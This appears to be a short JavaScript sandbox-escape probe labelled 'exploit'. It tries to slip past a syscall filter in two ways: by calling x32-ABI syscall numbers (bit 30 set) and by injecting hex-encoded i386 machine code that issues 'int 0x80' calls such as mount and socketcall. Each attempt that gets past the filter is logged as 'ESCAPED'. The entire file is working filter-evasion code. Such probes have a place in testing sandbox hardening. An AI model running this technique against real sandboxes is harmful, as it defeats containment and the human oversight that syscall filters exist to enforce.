// exploit: makes calls by the numbers of another architecture, which a filter might not know
// outcome: finished
const { runCode, syscall } = require('./system-call.cjs')
if (process.arch === 'x64') {
  // x32: the same instruction, numbers with bit 30. i386: `int 0x80`, mount is 21 there, and socketcall 102.
  for (const number of [0x40000000, 0x40000029, 0x40000110, 0x4000020f]) if (syscall(number, 0, 0, 0) !== 'SIGSYS') console.log('ESCAPED x32', number)
  for (const number of ['15000000', '66000000', '14000000', '1a000000']) {
    const answer = runCode(Buffer.from(`b8${number}cd8031ffb83c0000000f05`, 'hex'))
    if (answer !== 'SIGSYS' && answer !== 'SIGSEGV') console.log('ESCAPED i386', number, answer)
  }
}
